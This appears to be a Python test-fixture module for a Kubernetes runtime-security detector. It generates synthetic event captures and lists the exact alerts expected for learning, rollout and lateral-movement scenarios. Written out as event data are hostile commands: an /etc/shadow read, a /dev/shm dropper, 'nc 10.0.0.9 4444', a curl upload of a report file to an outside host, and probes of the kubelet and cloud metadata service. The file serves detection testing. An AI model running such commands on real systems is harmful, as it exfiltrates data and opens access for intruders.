"""Captures for the event-time guarantee (issue 9), built in the tests, and their exact alerts.

Each capture is a small cluster on node `node-a`, namespace `shop`, in IG v0.55's record layout
(the generator of `examples/make_webshop_capture.py`). As in `scenario.py`, every container is
seen by one gadget only, so whatever order IG's streams interleave in, each container's events
arrive in event-time order, and the alerts below are exact whatever the replay pace.

`lifecycle()` holds three workloads, each a specification of one lifecycle transition:

* `sessions` (trace_open): 60 session files under one directory while learning (the directory
  collapses into a wildcard when the profile completes at 1 min), then 40 new ones at 2 min: no
  alert. An `/etc/shadow` read at 2.5 min proves the anomaly rules are live (R0002, R0010).
* `web` (trace_exec): completed at 1 min; a rollout at 3 min (new ReplicaSet, new image
  digest) reopens learning for `rolloutLearningPeriod` (2 min here). In that window the new
  revision's new tools raise no anomaly alert, while a payload executed from `/dev/shm` out of
  the writable layer still raises the signature rules R1000 and R1001. After the window, the
  tool learned in it is quiet, an unlearned one raises R0001.
* `api` (trace_exec): a rollout at 40 s, while the first revision is still learning, joins the
  same profile and the same learning period (which still ends at 1 min): an unlearned tool at
  1 min 20 s raises R0001.
"""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path
from typing import Any

from tests.e2e.scenario import MIN, SEC, T0, Expected, ex

NODE = "node-a"
NAMESPACE = "shop"
LEARNING_PERIOD = "1m"
ROLLOUT_LEARNING_PERIOD = "2m"


def _digest(n: int) -> str:
    return "sha256:" + f"{0x90 + n:02x}" * 32


def _ctr(pod: str, owner: tuple[str, str], labels: str, image: str, n: int, *, ip: str,
         uid: int = 1000, name: str = "app") -> Any:  # fmt: skip
    return ex.Ctr(
        NODE, pod, name, image, _digest(n), owner[0], owner[1], labels,
        f"{0xE7E000 + n:06x}" * 10 + "cafe", 50000 + 100 * n, 4026534000 + n,
        4026534500 + n, ip, uid,
    )  # fmt: skip


class Gen(ex.Gen):  # type: ignore[misc,name-defined]
    """The example generator, with a start time and a namespace per container (a rollout
    starts later; the lateral-movement cluster spans namespaces), and with what IG's owner
    walk yields: the top-level owner, or none when the walk failed (`owners`)."""

    def __init__(
        self,
        started: dict[str, int],
        namespaces: dict[str, str] | None = None,
        owners: dict[str, tuple[str, str]] | None = None,
    ) -> None:
        super().__init__()
        self.started = started
        self.namespaces = namespaces or {}
        self.owners = owners or {}

    def runtime(self, c: Any) -> dict[str, Any]:
        out: dict[str, Any] = ex.Gen.runtime(c)
        out["containerStartedAt"] = self.started.get(c.cid, T0)
        return out

    def k8s(self, c: Any) -> dict[str, Any]:
        out: dict[str, Any] = ex.Gen.k8s(c)
        out["namespace"] = self.namespaces.get(c.cid, NAMESPACE)
        if c.cid in self.owners:
            kind, name = self.owners[c.cid]
            out["owner"] = {"kind": kind, "name": name}
        return out

    @staticmethod
    def peer(addr: str, port: int, kind: str, name: str, ns: str, labels: str) -> dict[str, Any]:
        out: dict[str, Any] = ex.Gen.endpoint(addr, port, kind, name, ns)
        out["k8s"]["labels"] = labels
        return out


SESS = _ctr("sessions-6c8d9f7b5-abcde", ("ReplicaSet", "sessions-6c8d9f7b5"),
            "app=sessions,pod-template-hash=6c8d9f7b5", "ghcr.io/example/sessions:2.0.0", 1,
            ip="10.244.1.31")  # fmt: skip
WEB_V1 = _ctr("web-5d4f8c7b9-x7k2p", ("ReplicaSet", "web-5d4f8c7b9"),
              "app=web,pod-template-hash=5d4f8c7b9", "ghcr.io/example/web:1.4.0", 2,
              ip="10.244.1.11")  # fmt: skip
WEB_V2 = _ctr("web-7f6e5d4c3-p9q8r", ("ReplicaSet", "web-7f6e5d4c3"),
              "app=web,pod-template-hash=7f6e5d4c3", "ghcr.io/example/web:1.5.0", 3,
              ip="10.244.1.12")  # fmt: skip
API_V1 = _ctr("api-7c9d6b5f4-m2n8q", ("ReplicaSet", "api-7c9d6b5f4"),
              "app=api,pod-template-hash=7c9d6b5f4", "ghcr.io/example/api:3.1.0", 4,
              ip="10.244.1.21")  # fmt: skip
API_V2 = _ctr("api-58b7c6d9e-z1y2x", ("ReplicaSet", "api-58b7c6d9e"),
              "app=api,pod-template-hash=58b7c6d9e", "ghcr.io/example/api:3.2.0", 5,
              ip="10.244.1.22")  # fmt: skip

WEB_ROLLOUT_AT = T0 + 3 * MIN
API_ROLLOUT_AT = T0 + 40 * SEC
SESSION_DIR = "/var/lib/sessions"
RW_CREATE = ("O_RDWR|O_CREAT", 0o102)


def _sessions(g: Gen) -> None:
    g.open_(SESS, T0 + SEC, comm="sessiond", pid=1, path="/etc/sessiond.conf")
    for i in range(60):  # learning: more children than collapseThreshold (50)
        g.open_(SESS, T0 + 2 * SEC + i * 700_000_000, comm="sessiond", pid=1,
                path=f"{SESSION_DIR}/sess_{i * 7919:08x}", flags=RW_CREATE[0],
                flags_raw=RW_CREATE[1])  # fmt: skip
    for i in range(40):  # after completion: new names in the collapsed directory
        g.open_(SESS, T0 + 2 * MIN + i * SEC, comm="sessiond", pid=1,
                path=f"{SESSION_DIR}/sess_new_{i * 104729:08x}", flags=RW_CREATE[0],
                flags_raw=RW_CREATE[1])  # fmt: skip
        g.open_(SESS, T0 + 2 * MIN + i * SEC + 1000, comm="sessiond", pid=1,
                path="/etc/sessiond.conf")  # fmt: skip
    g.open_(SESS, T0 + 2 * MIN + 45 * SEC, comm="cat", pid=900, path="/etc/shadow",
            error="EACCES", pcomm="sh", ppid=899)  # fmt: skip


def _exec(g: Gen, c: Any, ts: int, exe: str, *args: str, pid: int = 40, upper: bool = False,
          cwd: str = "/app") -> None:  # fmt: skip
    g.exec_(c, ts, exe=exe, args=[exe.rsplit("/", 1)[-1], *args], pid=pid, pcomm="gunicorn",
            ppid=7, cwd=cwd, parent_exe="/usr/local/bin/gunicorn", upper=upper)  # fmt: skip


def _web(g: Gen) -> None:
    _exec(g, WEB_V1, T0 + SEC, "/usr/local/bin/gunicorn", "web:app", pid=1)
    for k in range(5):
        _exec(g, WEB_V1, T0 + (10 + 10 * k) * SEC, "/usr/bin/date", "+%s", pid=40 + k)
    _exec(g, WEB_V1, T0 + 2 * MIN, "/usr/bin/date", "+%s", pid=60)  # known: quiet
    # The rollout: learning reopens for the new revision.
    t = WEB_ROLLOUT_AT
    _exec(g, WEB_V2, t + SEC, "/usr/local/bin/gunicorn", "web:app", pid=1)
    _exec(g, WEB_V2, t + 5 * SEC, "/usr/bin/newtool", "--sync", pid=70)
    _exec(g, WEB_V1, t + 8 * SEC, "/usr/bin/newtool", "--sync", pid=71)
    _exec(g, WEB_V2, t + 10 * SEC, "/dev/shm/dropper", pid=72, upper=True, cwd="/dev/shm")
    # After the window (3 min + 2 min).
    t = T0 + 6 * MIN
    _exec(g, WEB_V2, t, "/usr/bin/newtool", "--sync", pid=80)
    _exec(g, WEB_V1, t + SEC, "/usr/bin/newtool", "--sync", pid=81)
    _exec(g, WEB_V2, t + 2 * SEC, "/usr/bin/nc", "10.0.0.9", "4444", pid=82)


def _api(g: Gen) -> None:
    _exec(g, API_V1, T0 + SEC, "/usr/bin/python3", "-m", "api", pid=1)
    _exec(g, API_V2, API_ROLLOUT_AT + SEC, "/usr/bin/python3", "-m", "api", pid=1)
    _exec(g, API_V2, API_ROLLOUT_AT + 2 * SEC, "/usr/bin/migrate", "up", pid=20)
    t = T0 + MIN + 20 * SEC  # after the one learning period, before a restarted one would end
    _exec(g, API_V2, t, "/usr/bin/curl", "-s", "http://203.0.113.50/", pid=30)
    _exec(g, API_V2, t + SEC, "/usr/bin/migrate", "up", pid=31)
    _exec(g, API_V1, t + 2 * SEC, "/usr/bin/migrate", "up", pid=32)


def lifecycle() -> list[dict[str, Any]]:
    g = Gen({WEB_V2.cid: WEB_ROLLOUT_AT, API_V2.cid: API_ROLLOUT_AT})
    _sessions(g)
    _web(g)
    _api(g)
    return [line for _, _, line in sorted(g.lines, key=lambda x: (x[0], x[1]))]


# -- lateral movement and CronJob runs ------------------------------------------------------------

#: Namespaces of the lateral-movement capture.
SHOP, SYSTEM, JOBS = "shop", "kube-system", "jobs"
NODE_IP = "10.0.0.12"
METADATA = "169.254.169.254"

FRONT = _ctr("front-6d5c4b3a2-k8s7d", ("Deployment", "front"),
             "app=front,pod-template-hash=6d5c4b3a2", "ghcr.io/example/front:1.0.0", 6,
             ip="10.244.1.40")  # fmt: skip
METRICS = _ctr("metrics-server-5f6d7c8b9-abcde", ("Deployment", "metrics-server"),
               "k8s-app=metrics-server,pod-template-hash=5f6d7c8b9",
               "registry.k8s.io/metrics-server/metrics-server:v0.7.2", 7, ip="10.244.1.41",
               name="metrics-server")  # fmt: skip
#: Two runs of CronJob `report-gen`, five scheduled minutes apart. IG's owner walk failed for
#: the first (no owner, only the Job's labels); the second carries its direct owner, the Job.
RUN1_JOB, RUN2_JOB = "report-gen-29384710", "report-gen-29384715"
RUN1 = _ctr(f"{RUN1_JOB}-x7k2p", ("", ""),
            f"batch.kubernetes.io/job-name={RUN1_JOB},job-name={RUN1_JOB}",
            "ghcr.io/example/report:4.2.0", 8, ip="10.244.1.50", name="report")  # fmt: skip
RUN2 = dataclasses.replace(  # the same image, another container
    _ctr(f"{RUN2_JOB}-q9m4z", ("Job", RUN2_JOB),
         f"batch.kubernetes.io/job-name={RUN2_JOB},job-name={RUN2_JOB}",
         "ghcr.io/example/report:4.2.0", 9, ip="10.244.1.51", name="report"),
    digest=RUN1.digest,
)  # fmt: skip
RUN2_AT = T0 + 5 * MIN

DB_LABELS = "app=db,pod-template-hash=6b8f9c7d5"
PAY_LABELS = "app=payments,pod-template-hash=7d9c8b6a5"


def _connect(g: Gen, c: Any, ts: int, dst: dict[str, Any], *, comm: str = "front",
             pid: int = 10, sport: int = 40000) -> None:  # fmt: skip
    g.tcp(c, ts, comm=comm, pid=pid, kind="connect", src=g.endpoint(c.ip, sport), dst=dst)


def _front(g: Gen) -> None:
    def db(pod: str, ip: str) -> dict[str, Any]:
        return g.peer(ip, 5432, "pod", pod, "data", DB_LABELS)

    cache = g.peer("10.96.3.4", 6379, "svc", "cache", SHOP, "")
    for k in range(5):  # learning: the database (one pod) and the cache Service
        t = T0 + (5 + 10 * k) * SEC
        _connect(g, FRONT, t, db("db-6b8f9c7d5-aaaaa", "10.244.2.7"), sport=41000 + k)
        _connect(g, FRONT, t + SEC, cache, sport=42000 + k)
    t = T0 + 2 * MIN  # the database pod was rescheduled: new name, new address, same workload
    _connect(g, FRONT, t, db("db-6b8f9c7d5-bbbbb", "10.244.2.9"), sport=43000)
    _connect(g, FRONT, t + SEC, cache, sport=43001)
    t = T0 + 3 * MIN  # the intrusion: another namespace's database, the kubelet, the IMDS
    pay = g.peer("10.244.3.9", 5432, "pod", "payments-7d9c8b6a5-ccccc", "payments", PAY_LABELS)
    _connect(g, FRONT, t, pay, comm="psql", pid=700, sport=44000)
    _connect(g, FRONT, t + SEC, g.endpoint(NODE_IP, 10250), comm="curl", pid=701, sport=44001)
    _connect(g, FRONT, t + 2 * SEC, g.endpoint(METADATA, 80), comm="curl", pid=702, sport=44002)
    # Repeats: deduplicated.
    _connect(g, FRONT, t + 3 * SEC, g.endpoint(NODE_IP, 10250), comm="curl", pid=703, sport=44003)


def _metrics_server(g: Gen) -> None:
    # Scrapes the kubelet all the time: allowed for R2102 by the binding, learned for R2100.
    for k in range(30):
        _connect(g, METRICS, T0 + (3 + 10 * k) * SEC, g.endpoint(NODE_IP, 10250),
                 comm="metrics-server", pid=1, sport=45000 + k)  # fmt: skip


def _report_runs(g: Gen) -> None:
    for c, t in ((RUN1, T0), (RUN2, RUN2_AT)):
        g.exec_(c, t + SEC, exe="/usr/local/bin/report", args=["report", "--daily"], pid=1,
                pcomm="containerd-shim", ppid=c.pid - 20)  # fmt: skip
        g.exec_(c, t + 2 * SEC, exe="/usr/bin/gzip", args=["gzip", "-9", "/out/report.csv"],
                pid=2, pcomm="report", ppid=1)  # fmt: skip
    # The second run does something no run did while the CronJob's profile learned.
    g.exec_(RUN2, RUN2_AT + 3 * SEC, exe="/usr/bin/curl",
            args=["curl", "-sT", "/out/report.csv", "http://203.0.113.50/up"], pid=3,
            pcomm="report", ppid=1)  # fmt: skip


def lateral() -> list[dict[str, Any]]:
    g = Gen(
        {RUN2.cid: RUN2_AT},
        namespaces={METRICS.cid: SYSTEM, RUN1.cid: JOBS, RUN2.cid: JOBS},
        owners={RUN1.cid: ("", "")},
    )
    _front(g)
    _metrics_server(g)
    _report_runs(g)
    return [line for _, _, line in sorted(g.lines, key=lambda x: (x[0], x[1]))]


def write_capture(path: Path, lines: list[dict[str, Any]], description: str) -> Path:
    header = {
        "gadgetwatchCapture": 1,
        "generator": "tests/e2e/eventtime.py",
        "serverVersion": "0.55.1",
        "startedAt": ex._fmt(T0),
        "description": description,
    }
    with path.open("w", encoding="utf-8") as out:
        out.write(json.dumps(header, separators=(",", ":")) + "\n")
        for line in lines:
            out.write(json.dumps(line, separators=(",", ":"), ensure_ascii=False) + "\n")
    return path


def _e(rule: str, c: Any, key: str) -> Expected:
    kind, name = "Deployment", c.owner_name.rsplit("-", 1)[0]
    return Expected(rule, kind, name, c.pod, c.name, key)


def _x(rule: str, c: Any, key: str, kind: str, name: str) -> Expected:
    return Expected(rule, kind, name, c.pod, c.name, key)


LATERAL_EXPECTED: tuple[Expected, ...] = (
    _x("R2100", FRONT, "10.244.3.9:5432", "Deployment", "front"),
    _x("R2100", FRONT, f"{NODE_IP}:10250", "Deployment", "front"),
    _x("R2102", FRONT, f"{NODE_IP}:10250", "Deployment", "front"),
    _x("R2101", FRONT, f"{METADATA}:80", "Deployment", "front"),
    _x("R0001", RUN2, "/usr/bin/curl", "CronJob", "report-gen"),
)

LIFECYCLE_EXPECTED: tuple[Expected, ...] = (
    _e("R0002", SESS, "/etc/shadow"),
    _e("R0010", SESS, "/etc/shadow"),
    _e("R1000", WEB_V2, "/dev/shm/dropper"),
    _e("R1001", WEB_V2, "/dev/shm/dropper"),
    _e("R0001", WEB_V2, "/usr/bin/nc"),
    _e("R0001", API_V2, "/usr/bin/curl"),
)
